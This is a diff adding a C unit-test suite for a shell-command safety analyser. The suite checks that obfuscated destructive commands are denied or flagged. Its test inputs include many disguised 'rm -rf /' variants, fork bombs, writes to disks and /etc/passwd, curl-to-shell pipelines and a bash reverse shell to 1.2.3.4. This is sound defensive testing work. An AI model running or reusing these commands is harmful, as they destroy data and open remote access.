@@ -1,0 +1,463 @@
+#include "config.h"
+
+/*
+ * test-analyse - one test per construct the analyser must see through,
+ * plus policy loading errors and a smoke test that feeds thousands of
+ * random and mutated inputs (the analyser must never crash).
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include "tests/safety/common.h"
+
+static struct hs_policy *pol;
+
+static enum hs_verdict
+verdict(const char *cmd)
+{
+	struct hs_analysis an;
+
+	assert_int_equal(hs_analyse(pol, cmd, HS_CONTEXT_HOST, &an), 0);
+	return an.verdict;
+}
+
+static int
+matches(const char *cmd, const char *rule)
+{
+	struct hs_analysis an;
+
+	hs_analyse(pol, cmd, HS_CONTEXT_HOST, &an);
+	return test_has_rule(&an, rule);
+}
+
+#define DENY(c) assert_int_equal(verdict(c), HS_VERDICT_DENY)
+#define ASK(c) assert_int_equal(verdict(c), HS_VERDICT_ASK)
+#define ALLOW(c) assert_int_equal(verdict(c), HS_VERDICT_ALLOW)
+
+static void
+test_quotes_and_escapes(void **s)
+{
+	(void)s;
+	DENY("rm -rf /");
+	DENY("\\rm -rf /");
+	DENY("r''m -rf /");
+	DENY("\"rm\" -rf /");
+	DENY("'r'\"m\" -rf '/'");
+	DENY("$'\\x72m' -rf /");
+	DENY("$'\\162m' -rf /");
+	DENY("$'\\u0072m' -rf /");
+	DENY("/usr/bin/rm -rf /");
+	DENY("r\\\nm -rf /");
+	ALLOW("echo 'rm -rf /'");
+	ALLOW("echo \"rm -rf /\" # rm -rf /");
+	ASK("echo 'unterminated");
+}
+
+static void
+test_brace_expansion(void **s)
+{
+	(void)s;
+	DENY("{rm,-rf,/}");
+	DENY("{rm,-rf,/usr}");
+	ALLOW("echo {a,b,c}");
+	ALLOW("for i in {1..5}; do echo $i; done");
+	ALLOW("find . -name x -exec echo {} \\;");
+}
+
+static void
+test_substitutions(void **s)
+{
+	(void)s;
+	DENY("echo $(rm -rf /)");
+	DENY("echo `rm -rf /`");
+	DENY("x=$(rm -rf /)");
+	DENY("cat <(rm -rf /)");
+	DENY("tee >(rm -rf /) < /dev/null");
+	DENY("echo \"$(echo $(rm -rf /))\"");
+	DENY("echo ${x:-$(rm -rf /)}");
+	ASK("$(echo rm) -rf /");
+	ASK("`echo rm` -rf /");
+	ASK("\"${cmd}\" -rf /");
+	ASK("$X args");
+	ALLOW("echo $(date) $((1+2))");
+	ALLOW("$HOME/bin/tool --version");
+}
+
+static void
+test_heredocs(void **s)
+{
+	(void)s;
+	DENY("cat <<EOF\n$(rm -rf /)\nEOF");
+	ALLOW("cat <<'EOF'\n$(rm -rf /)\nEOF");
+	ALLOW("cat <<-EOF\n\trm -rf /\n\tEOF");
+	DENY("bash <<EOF\nrm -rf /\nEOF");
+	DENY("sh <<< 'rm -rf /'");
+	DENY("cat <<EOF | sh\nrm -rf /\nEOF");
+	ALLOW("cat > f <<EOF\nrm -rf /\nEOF\necho done");
+	DENY("cat > f <<EOF\nhello\nEOF\nrm -rf /");
+}
+
+static void
+test_operators_and_compounds(void **s)
+{
+	(void)s;
+	DENY("true; rm -rf /");
+	DENY("false || rm -rf /");
+	DENY("true && rm -rf /");
+	DENY("sleep 1 & rm -rf /");
+	DENY("ls | rm -rf /");
+	DENY("(rm -rf /)");
+	DENY("{ rm -rf /; }");
+	DENY("if true; then rm -rf /; fi");
+	DENY("if false; then :; elif true; then :; else rm -rf /; fi");
+	DENY("while true; do rm -rf /; done");
+	DENY("for x in a b; do rm -rf /; done");
+	DENY("for ((i=0;i<1;i++)); do rm -rf /; done");
+	DENY("case a in a) rm -rf /;; esac");
+	DENY("[[ -d / ]] && rm -rf /");
+	DENY("! rm -rf /");
+	DENY("time rm -rf /");
+	ALLOW("if [ -f x ]; then echo y; else echo z; fi");
+}
+
+static void
+test_functions_and_aliases(void **s)
+{
+	(void)s;
+	DENY("f(){ rm -rf /; }; f");
+	DENY("function f { rm -rf /; }; f");
+	/* Analysed where defined: a dangerous body counts even if never called. */
+	DENY("f(){ rm -rf /; }");
+	DENY("alias x='rm -rf /'; x");
+	DENY("alias l='ls -la'; l /; rm -rf /");
+	ALLOW("f(){ echo hi; }; f");
+	ALLOW("alias ll='ls -la'; ll");
+	DENY(":(){ :|:& };:");
+	DENY("b(){ b|b& };b");
+	assert_true(matches("x() { x | x & }; x", "sys.fork-bomb"));
+}
+
+static void
+test_assignments_and_redirections(void **s)
+{
+	(void)s;
+	ASK("DOCKER_HOST=tcp://x docker ps");
+	ASK("export DOCKER_HOST=tcp://x");
+	DENY("echo x > /dev/sda");
+	DENY("echo x >> /etc/hs/hs.conf");
+	DENY("echo x >| /etc/hs/hs.conf");
+	DENY("echo x &> /etc/hs/hs.conf");
+	DENY("echo x 2> /etc/hs/hs.conf");
+	DENY("echo x >& /etc/hs/hs.conf");
+	ASK("echo x > ~/.bashrc");
+	ASK("echo x >> $HOME/.ssh/authorized_keys");
+	ASK("{ echo x; } >> /etc/passwd");
+	ALLOW("make 2>&1 | tee log");
+	ALLOW("echo x > /dev/null 2>&1");
+	DENY("bash -i >& /dev/tcp/1.2.3.4/1 0>&1");
+	DENY("exec 3<>/dev/tcp/1.2.3.4/80");
+}
+
+static void
+test_wrappers(void **s)
+{
+	(void)s;
+	DENY("sudo rm -rf /");
+	DENY("sudo -u root -E -- rm -rf /");
+	DENY("sudo -g wheel rm -rf /");
+	DENY("doas rm -rf /");
+	DENY("env -i A=1 -u B rm -rf /");
+	DENY("env -S 'rm -rf /'");
+	DENY("timeout -s KILL 10 rm -rf /");
+	DENY("nice -n 5 ionice -c 3 nohup stdbuf -oL rm -rf /");
+	DENY("command rm -rf /");
+	DENY("builtin exec rm -rf /");
+	DENY("exec rm -rf /");
+	DENY("xargs rm -rf / < /dev/null");
+	DENY("echo / | xargs rm -rf");
+	DENY("find / -exec rm -rf {} +");
+	DENY("find / -delete");
+	DENY("watch rm -rf /");
+	DENY("busybox rm -rf /");
+	ALLOW("command -v rm");
+	ALLOW("sudo -l");
+	ALLOW("xargs -n1 echo");
+}
+
+static void
+test_shell_payloads(void **s)
+{
+	(void)s;
+	DENY("sh -c 'rm -rf /'");
+	DENY("bash -lc 'rm -rf /'");
+	DENY("dash -c \"rm -rf /\"");
+	DENY("zsh -c 'rm -rf /'");
+	DENY("bash -x -o pipefail -c 'rm -rf /'");
+	DENY("eval 'rm -rf /'");
+	DENY("eval rm -rf /");
+	DENY("bash -c \"bash -c 'eval \\\"rm -rf /\\\"'\"");
+	ASK("sh -c \"$CMD\"");
+	ASK("eval \"$X\"");
+	ASK("bash <(curl -s http://x)");
+	ASK("source <(curl http://x)");
+	ASK("curl http://x | sh");
+	ASK("wget -O- http://x | python3");
+	ASK("sh -c \"$(curl http://x)\"");
+	ALLOW("bash script.sh");
+	ALLOW("eval \"$(ssh-agent -s)\"");
+	ALLOW("curl http://x | python3 -m json.tool");
+}
+
+static void
+test_interpreters(void **s)
+{
+	(void)s;
+	DENY("python3 -c \"import os; os.system('rm -rf /')\"");
+	DENY("python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'");
+	DENY("python -c 'import shutil; shutil.rmtree(\"/\")'");
+	DENY("perl -e 'system(\"rm -rf /\")'");
+	DENY("perl -e 'qx(rm -rf /)'");
+	DENY("ruby -e '`rm -rf /`'");
+	DENY("node -e \"require('child_process').execSync('rm -rf /')\"");
+	DENY("php -r 'shell_exec(\"rm -rf /\");'");
+	DENY("python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF");
+	ASK("python3 -c 'import os; os.system(cmd)'");
+	ALLOW("python3 -c 'print(1)'");
+	ALLOW("python3 -c \"import json; print(json.dumps({'rm': '-rf /'}))\"");
+}
+
+static void
+test_argv_semantics(void **s)
+{
+	(void)s;
+	DENY("rm -fr /");
+	DENY("rm -r -f /");
+	DENY("rm --recursive --force /");
+	DENY("rm / -rf");
+	DENY("rm -rf -- /");
+	DENY("rm -rf //");
+	DENY("rm -rf /tmp/../");
+	DENY("rm -rf /*");
+	ALLOW("rm -f /");
+	ALLOW("rm -rf -- ./-rf");
+	ASK("git push -f");
+	ASK("git push origin main --force");
+	ALLOW("git push origin main");
+	ALLOW("git commit -m 'git push --force'");
+	ASK("git branch -D x");
+	ALLOW("git branch -d x");
+	ASK("kill -9 -1");
+	ALLOW("kill -9 1234");
+}
+
+static void
+test_sandbox_context(void **s)
+{
+	struct hs_analysis an;
+
+	(void)s;
+	hs_analyse(pol, "git push --force", HS_CONTEXT_SANDBOX, &an);
+	assert_int_equal(an.verdict, HS_VERDICT_ALLOW);
+	hs_analyse(pol, "$X -rf /", HS_CONTEXT_SANDBOX, &an);
+	assert_int_equal(an.verdict, HS_VERDICT_ALLOW);
+	assert_true(an.opaque);
+	hs_analyse(pol, "$X -rf /", HS_CONTEXT_HOST, &an);
+	assert_int_equal(an.verdict, HS_VERDICT_ASK);
+	assert_string_equal(an.findings[0].rule_id, "opaque");
+	hs_analyse(pol, "rm -rf /", HS_CONTEXT_SANDBOX, &an);
+	assert_int_equal(an.verdict, HS_VERDICT_DENY);
+	hs_analyse(pol, "echo x > /etc/hs/hs.conf", HS_CONTEXT_SANDBOX, &an);
+	assert_int_equal(an.verdict, HS_VERDICT_DENY);
+}
+
+static void
+test_findings(void **s)
+{
+	struct hs_analysis an;
+
+	(void)s;
+	hs_analyse(pol, "sudo rm -rf /", HS_CONTEXT_HOST, &an);
+	assert_int_equal(an.verdict, HS_VERDICT_DENY);
+	assert_true(test_has_rule(&an, "fs.rm-root"));
+	assert_int_equal(an.findings[0].hardline, 1);
+	assert_string_equal(an.findings[0].argv_norm, "rm -rf /");
+	hs_analyse(pol, "psql -h 127.0.0.1 -p 1 -c \"DROP DATABASE hsacc_none\"", HS_CONTEXT_HOST, &an);
+	assert_int_equal(an.verdict, HS_VERDICT_ASK);
+	assert_string_equal(an.findings[0].rule_id, "db.sql-destructive-psql");
+	assert_int_equal(an.findings[0].hardline, 0);
+	hs_analyse(pol, "mkfs.ext4 /dev/sdz9", HS_CONTEXT_HOST, &an);
+	assert_int_equal(an.verdict, HS_VERDICT_DENY);
+	hs_analyse(pol, "echo \"mkfs.ext4 /dev/sda\"", HS_CONTEXT_HOST, &an);
+	assert_int_equal(an.verdict, HS_VERDICT_ALLOW);
+	assert_int_equal(an.n_findings, 0);
+}
+
+static void
+test_protected_paths_from_core(void **s)
+{
+	(void)s;
+	/* test_load_policy passes this path as protected. */
+	DENY("echo x >> /home/user/.local/state/hs/allow.list");
+	DENY("rm ~/.local/state/hs/allow.list");
+}
+
+static void
+write_file(const char *path, const char *text, mode_t mode)
+{
+	FILE *fp = fopen(path, "w");
+
+	assert_non_null(fp);
+	fputs(text, fp);
+	fclose(fp);
+	chmod(path, mode);
+}
+
+static void
+test_policy_errors(void **s)
+{
+	char dir[] = "/tmp/hs-policy-err.XXXXXX", path[256], err[512];
+	const char *d = dir;
+	struct hs_policy *p = NULL;
+
+	(void)s;
+	assert_non_null(mkdtemp(dir));
+	chmod(dir, 0755);
+	snprintf(path, sizeof(path), "%s/a.rules", dir);
+	write_file(path, "rules = ( { id = \"x\"; severity = \"bad\"; scope = \"host\"; description = \"d\"; match = { program = \"x\"; }; } );", 0644);
+	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), -1);
+	assert_non_null(strstr(err, "severity"));
+	write_file(path, "rules = ( { id = \"x\"; severity = \"dangerous\"; scope = \"host\"; description = \"d\"; match = { progam = \"x\"; }; } );", 0644);
+	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), -1);
+	assert_non_null(strstr(err, "progam"));
+	write_file(path, "rules = ( { id = \"x\"; severity = \"dangerous\"; scope = \"host\"; description = \"d\"; match = { program = \"x\"; }; } );", 0664);
+	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), -1);
+	assert_non_null(strstr(err, "writable"));
+	assert_non_null(strstr(err, "a.rules"));
+	chmod(path, 0644);
+	/* A later file with the same id overrides; disabled removes. */
+	snprintf(path, sizeof(path), "%s/b.rules", dir);
+	write_file(path, "rules = ( { id = \"x\"; severity = \"hardline\"; scope = \"host\"; description = \"d2\"; match = { program = \"x\"; }; } );", 0644);
+	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), 0);
+	assert_int_equal(hs_policy_rule_count(p), 1);
+	{
+		struct hs_analysis an;
+
+		hs_analyse(p, "x", HS_CONTEXT_HOST, &an);
+		assert_int_equal(an.verdict, HS_VERDICT_DENY);
+	}
+	hs_policy_free(p);
+	write_file(path, "rules = ( { id = \"x\"; disabled = true; } );", 0644);
+	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), 0);
+	assert_int_equal(hs_policy_rule_count(p), 0);
+	hs_policy_free(p);
+	unlink(path);
+	snprintf(path, sizeof(path), "%s/a.rules", dir);
+	unlink(path);
+	rmdir(dir);
+}
+
+static const char *const seeds[] = {
+	"rm -rf /", "a=$(b `c` \"$(d)\") e <<EOF\n$(f)\nEOF", "for i in {a,b}; do case $i in a) x;; esac; done",
+	":(){ :|:& };:", "sh -c 'eval \"$(curl x)\"' | bash <(wget y)", "python3 -c \"import os; os.system('ls')\"",
+	"f() { g() { h; }; }; alias q='r $(s)'; q", "[[ $x == y && -f z ]] || ((i++))", "echo ${a:-${b:+$(c)}} $'\\x41' {1..3}",
+	"find / -exec sh -c 'x' {} \\; -delete | xargs -I{} env A=1 sudo -u r nice {}",
+};
+
+static void
+test_fuzz_smoke(void **s)
+{
+	static const char alphabet[] = "abrm -/$(){}[]<>|&;'\"`\\\n\t=~*?!#,.:012EOF";
+	struct hs_analysis an;
+	char buf[512];
+	unsigned seed = 12345;
+	size_t n, k, len, j;
+
+	(void)s;
+	for (n = 0; n < 20000; n++) {
+		seed = seed * 1103515245u + 12345u;
+		if (n % 2) {
+			/* Random bytes from the shell's special characters. */
+			len = (seed >> 16) % (sizeof(buf) - 1);
+			for (j = 0; j < len; j++) {
+				seed = seed * 1103515245u + 12345u;
+				buf[j] = alphabet[(seed >> 16) % (sizeof(alphabet) - 1)];
+			}
+			buf[len] = '\0';
+		} else {
+			/* A seed with bytes flipped, dropped or duplicated. */
+			const char *sd = seeds[(seed >> 16) % (sizeof(seeds) / sizeof(seeds[0]))];
+
+			snprintf(buf, sizeof(buf), "%s%s", sd, (seed & 1) ? sd : "");
+			len = strlen(buf);
+			for (k = 0; k < 4 && len; k++) {
+				seed = seed * 1103515245u + 12345u;
+				j = (seed >> 16) % len;
+				if (seed & 0x100)
+					buf[j] = (char)(seed >> 8);
+				else
+					memmove(buf + j, buf + j + 1, len - j);
+				len = strlen(buf);
+			}
+		}
+		assert_int_equal(hs_analyse(pol, buf, HS_CONTEXT_HOST, &an), 0);
+		assert_true(an.verdict <= HS_VERDICT_DENY);
+		assert_true(an.n_findings <= HS_MAX_FINDINGS);
+	}
+	/* Deep nesting must be refused, not recursed into. */
+	{
+		char *deep = malloc(200001);
+
+		/* "( ( ( ... ) ) )": subshells; "((" alone would be arithmetic. */
+		for (j = 0; j < 100000; j++) {
+			deep[j] = j % 2 ? ' ' : '(';
+			deep[200000 - 1 - j] = j % 2 ? ' ' : ')';
+		}
+		deep[200000] = '\0';
+		hs_analyse(pol, deep, HS_CONTEXT_HOST, &an);
+		assert_int_equal(an.verdict, HS_VERDICT_ASK);
+		memset(deep, 0, 200001);
+		for (j = 0; j + 2 < 200000; j += 2)
+			memcpy(deep + j, "$(", 2);
+		hs_analyse(pol, deep, HS_CONTEXT_HOST, &an);
+		assert_int_equal(an.verdict, HS_VERDICT_ASK);
+		for (j = 0; j < 200000; j++)
+			deep[j] = j % 2 ? ',' : '{';
+		hs_analyse(pol, deep, HS_CONTEXT_HOST, &an);
+		free(deep);
+	}
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_quotes_and_escapes),
+		cmocka_unit_test(test_brace_expansion),
+		cmocka_unit_test(test_substitutions),
+		cmocka_unit_test(test_heredocs),
+		cmocka_unit_test(test_operators_and_compounds),
+		cmocka_unit_test(test_functions_and_aliases),
+		cmocka_unit_test(test_assignments_and_redirections),
+		cmocka_unit_test(test_wrappers),
+		cmocka_unit_test(test_shell_payloads),
+		cmocka_unit_test(test_interpreters),
+		cmocka_unit_test(test_argv_semantics),
+		cmocka_unit_test(test_sandbox_context),
+		cmocka_unit_test(test_findings),
+		cmocka_unit_test(test_protected_paths_from_core),
+		cmocka_unit_test(test_policy_errors),
+		cmocka_unit_test(test_fuzz_smoke),
+	};
+	int rc;
+
+	pol = test_load_policy();
+	if (!pol)
+		return 1;
+	rc = cmocka_run_group_tests(tests, NULL, NULL);
+	hs_policy_free(pol);
+	test_remove_policy();
+	return rc;
+}
